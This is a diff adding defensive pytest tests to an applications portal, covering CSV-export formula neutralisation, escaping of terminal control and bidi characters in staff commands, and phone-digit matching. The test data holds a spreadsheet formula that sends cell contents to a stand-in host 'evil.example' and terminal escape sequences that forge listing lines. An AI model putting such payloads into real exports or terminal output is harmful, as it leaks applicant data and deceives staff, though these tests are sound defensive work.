@@ -6,6 +6,7 @@ import datetime
 import io
 import logging
 import threading
+import unicodedata
 
 import pytest
 from click.testing import CliRunner
@@ -65,8 +66,10 @@ def organisation_form(**changes) -> dict:
 
 @pytest.fixture
 def database(app, tmp_path):
-    """Point the app at a fresh applications database and return its path."""
+    """Point the app at a fresh applications database, created as `portal serve` does, and
+    return its path."""
     path = tmp_path / "data" / "applications.sqlite3"
+    ApplicationStore(path).create()
     app.config["APPLICATIONS_DB"] = str(path)
     return path
 
@@ -354,6 +357,13 @@ def test_tracking_with_a_wrong_second_factor_shows_nothing(client, store):
     assert other.code not in soup.get_text()
 
 
+@pytest.mark.parametrize("last4", ["²³⁴⁵", "١٢٣٤", "①②③④", "12 4", "12345", ""])
+def test_only_four_ascii_digits_can_match_a_phone(store, last4):
+    app = store.submit(applications.validate(person_form())[0], datetime.date(2024, 9, 27))
+    assert store.lookup(app.code, last4) is None
+    assert store.lookup(app.code, "1234") == app
+
+
 def test_tracking_from_another_site_is_refused(client, store):
     app = store.submit(applications.validate(person_form())[0], datetime.date(2024, 9, 27))
     assert track(client, app.code, "1234", headers={"Origin": "https://evil.example"}
@@ -414,6 +424,83 @@ def test_csv_export_has_no_id_numbers(store, database, tmp_path):
     assert PERSON_ID[-4:] + "\n" not in text
     rows = list(csv.DictReader(io.StringIO(text)))
     assert len(rows) == 2 and "id_number" not in rows[0] and rows[0]["name"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1&A2,"点击查看")', "+1", "-2+3",
+            "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def test_csv_export_neutralises_formulas_from_applicants(client, store, database, tmp_path):
+    # Through the form, as a visitor would send them (the form trims leading tabs and CRs) ...
+    for formula in FORMULAS:
+        assert submit(client, person_form(name=formula, description=formula, title=formula),
+                      address=f"198.51.100.{len(store.all())}").status_code == 200
+    # ... and stored as they are, as a record that bypassed the form would be.
+    for formula in FORMULAS:
+        cleaned = applications.validate(person_form())[0] | {"name": formula,
+                                                              "description": formula}
+        store.submit(cleaned, datetime.date(2024, 9, 27))
+    target = tmp_path / "applications.csv"
+    cli(database, "export", str(target))
+    with target.open(encoding="utf-8-sig", newline="") as exported:
+        rows = list(csv.reader(exported))
+    assert len(rows) == 1 + 2 * len(FORMULAS)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+            assert not cell.lstrip().startswith(("=", "+", "-", "@")), row
+    names = sorted(row[rows[0].index("name")] for row in rows[1:])
+    assert names.count("'=1") == 2  # "\t=1" and "\r=1" through the form
+    assert "'\t=1" in names and "'\r=1" in names and "'-2+3" in names
+    assert "'" + FORMULAS[0] in names
+
+
+# Characters that rewrite what a terminal shows: line breaks of every kind, escape sequences,
+# and bidi controls that reorder what follows them.
+FORGERS = ["\n", "\r", "\x85", "\u2028", "\u2029", "\x9b", "\u202e", "\u202d", "\u2066",
+           "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\ufeff"]
+FAKE_LINE = "\nABCD-EFGH-JKMN  2024-01-01  due 2024-02-01  answered    person     "
+
+
+def visible_only(line: str) -> bool:
+    return not any(unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp") for char in line)
+
+
+def test_staff_commands_show_control_and_bidi_characters_as_escapes(client, store, database):
+    name = "张三\u202e4321 \u2066" + FAKE_LINE + "王五"
+    description = "需要" + "".join(FORGERS) + "\x1b[2J" + FAKE_LINE
+    assert submit(client, person_form(name=name, description=description, id_type="passport",
+                                      id_number="E1\u202e2345678\u2028")).status_code == 200
+    cleaned = applications.validate(person_form())[0] | {
+        "name": "\x1b]0;owned\x07\x1b[2J李四\r赵六", "title": "\u202e\n"}
+    store.submit(cleaned, datetime.date(2024, 9, 27))
+    listing = cli(database, "list").stdout.splitlines()
+    assert len(listing) == 2
+    for line in listing:
+        assert visible_only(line), ascii(line)
+        assert line[0] in applications.CODE_ALPHABET
+    assert any("张三\\u202e4321 \\u2066\\nABCD-EFGH-JKMN" in line for line in listing)
+    assert any("\\x1b]0;owned\\x07\\x1b[2J李四\\r赵六" in line for line in listing)
+    for app in store.all():
+        shown = cli(database, "show", app.code).stdout.splitlines()
+        assert [line.split(":", 1)[0] for line in shown] == [*applications.COLUMNS, "status"]
+        assert all(visible_only(line) for line in shown), [ascii(line) for line in shown]
+    first = next(app for app in store.all() if app.name == name)
+    shown = cli(database, "show", first.code).stdout
+    assert "description: 需要\\n\\r\\x85\\u2028\\u2029\\x9b\\u202e\\u202d\\u2066" in shown
+    updated = cli(database, "update", first.code, "--extend").stdout.splitlines()
+    assert len(updated) == 1 and visible_only(updated[0])
+
+
+def test_staff_commands_never_create_a_missing_database(tmp_path):
+    missing = tmp_path / "moved" / "applications.sqlite3"
+    for args in (["applications", "--db", str(missing), "list"],
+                 ["report-stats", "2024", "--organisation", "某局", "--db", str(missing)]):
+        result = CliRunner().invoke(main, args)
+        assert result.exit_code == 1
+        assert "cannot use the applications database" in result.stderr
+        assert "Traceback" not in result.output
+    assert not missing.exists() and not missing.parent.exists()
 
 
 # --- Table 3 ----------------------------------------------------------------------------------
